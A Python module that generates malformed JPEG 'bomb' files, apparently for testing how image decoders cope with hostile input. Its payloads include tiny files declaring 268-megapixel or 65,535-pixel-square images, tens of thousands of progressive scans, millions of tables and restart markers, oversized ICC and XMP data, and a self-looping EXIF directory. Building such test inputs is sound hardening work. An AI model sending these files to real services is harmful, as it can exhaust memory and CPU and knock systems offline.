"""Bombs in JPEG: pixels, scans, segments, profiles, directories."""

import struct

from packing import LONG, directory


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


TABLES = (
    segment(0xDB, b"\0" + b"\1" * 64)
    # One code of one bit for no coefficients: DC of size 0, AC of end of block.
    + segment(0xC4, b"\0" + b"\1" + bytes(15) + b"\0")
    + segment(0xC4, b"\x10" + b"\1" + bytes(15) + b"\0")
)


def frame(marker: int, width: int, height: int, components: int = 1) -> bytes:
    parts = b"".join(bytes([number + 1, 0x11, 0]) for number in range(components))
    return segment(marker, struct.pack(">BHHB", 8, height, width, components) + parts)


def scan(components: int = 1, spectrum: tuple[int, int, int] = (0, 63, 0), data: bytes = b"") -> bytes:
    parts = b"".join(bytes([number + 1, 0]) for number in range(components))
    return segment(0xDA, bytes([components]) + parts + bytes(spectrum)) + data


def jpeg(*parts: bytes) -> bytes:
    return b"\xff\xd8" + b"".join(parts) + b"\xff\xd9"


def exif(directories: bytes) -> bytes:
    return segment(0xE1, b"Exif\0\0" + directories)


def profile_parts(length: int, count: int) -> bytes:
    return b"".join(
        segment(0xE2, b"ICC_PROFILE\0" + bytes([number % 256, count % 256]) + bytes(length))
        for number in range(1, count + 1)
    )


def extended_xmp(count: int) -> bytes:
    name = b"http://ns.adobe.com/xmp/extension/\0" + b"0" * 32
    full = count * 65_000
    return b"".join(
        segment(0xE1, name + struct.pack(">II", full, number * 65_000) + b" " * 65_000)
        for number in range(count)
    )


def bombs():
    side = 16_383
    blocks = (side // 8 + 1) ** 2
    flat = bytes(blocks * 2 // 8 + 1)
    yield "JPEG, 65,535 x 65,535 in 300 bytes", "jpg", lambda: jpeg(
        TABLES, frame(0xC0, 65_535, 65_535), scan(data=bytes(9)))
    yield "JPEG, 268 MP of one colour", "jpg", lambda: jpeg(
        TABLES, frame(0xC0, side, side), scan(data=flat))
    yield "JPEG, 268 MP, progressive, one scan", "jpg", lambda: jpeg(
        TABLES, frame(0xC2, side, side), scan(spectrum=(0, 0, 0), data=flat))
    small = bytes(64 * 64 // 8)
    yield "JPEG, 20,000 scans over the same blocks", "jpg", lambda: jpeg(
        TABLES, frame(0xC2, 512, 512), scan(spectrum=(0, 0, 0), data=small),
        *(scan(spectrum=(1, 63, 0), data=small) for _ in range(20_000)))
    yield "JPEG, 100 empty scans over 268 MP", "jpg", lambda: jpeg(
        TABLES, frame(0xC2, side, side), *(scan(spectrum=(0, 0, 0), data=b"\0") for _ in range(100)))
    yield "JPEG, 1,000,000 tables", "jpg", lambda: jpeg(
        *[segment(0xC4, b"\0" + b"\1" + bytes(15) + b"\0")] * 1_000_000,
        TABLES, frame(0xC0, 64, 64), scan(data=bytes(64)))
    yield "JPEG, 5,000,000 restart markers", "jpg", lambda: jpeg(
        TABLES, segment(0xDD, b"\0\1"), frame(0xC0, 64, 64),
        scan(data=b"".join(b"\0\xff" + bytes([0xD0 + n % 8]) for n in range(5_000_000))))
    yield "JPEG, 20,000,000 fill bytes", "jpg", lambda: jpeg(
        TABLES, b"\xff" * 20_000_000 + frame(0xC0, 64, 64), scan(data=bytes(64)))
    yield "JPEG, arithmetic, 65,500 x 65,500", "jpg", lambda: jpeg(
        TABLES, frame(0xC9, 65_500, 65_500), scan(data=bytes(9)))
    yield "JPEG, arithmetic, 268 MP in 300 bytes", "jpg", lambda: jpeg(
        TABLES, frame(0xC9, side, side), scan(data=bytes(9)))
    yield "JPEG, lossless, 268 MP in 300 bytes", "jpg", lambda: jpeg(
        TABLES, frame(0xC3, side, side), scan(spectrum=(1, 0, 0), data=bytes(9)))
    yield "JPEG, profile in 255 parts of 64 kB", "jpg", lambda: jpeg(
        profile_parts(65_000, 255), TABLES, frame(0xC0, 64, 64), scan(data=bytes(64)))
    yield "JPEG, 100 MB of XMP", "jpg", lambda: jpeg(
        extended_xmp(1_538), TABLES, frame(0xC0, 64, 64), scan(data=bytes(64)))
    loop = b"II*\0\x08\0\0\0" + directory([(0x8769, LONG, 1, 8), (0x8825, LONG, 1, 8)], 8)
    yield "JPEG, EXIF whose directories are themselves", "jpg", lambda: jpeg(
        exif(loop), TABLES, frame(0xC0, 64, 64), scan(data=bytes(64)))
    large = b"II*\0\x08\0\0\0" + struct.pack("<H", 5_000) + b"\x12\1\3\0\xff\xff\xff\xff\1\0\0\0" * 5_000
    yield "JPEG, EXIF with 5,000 entries of 4 billion values", "jpg", lambda: jpeg(
        exif(large), TABLES, frame(0xC0, 64, 64), scan(data=bytes(64)))
    yield "JPEG, 1,000 EXIF blocks", "jpg", lambda: jpeg(
        exif(loop.ljust(65_000, b"\0")) * 1_000, TABLES, frame(0xC0, 64, 64), scan(data=bytes(64)))
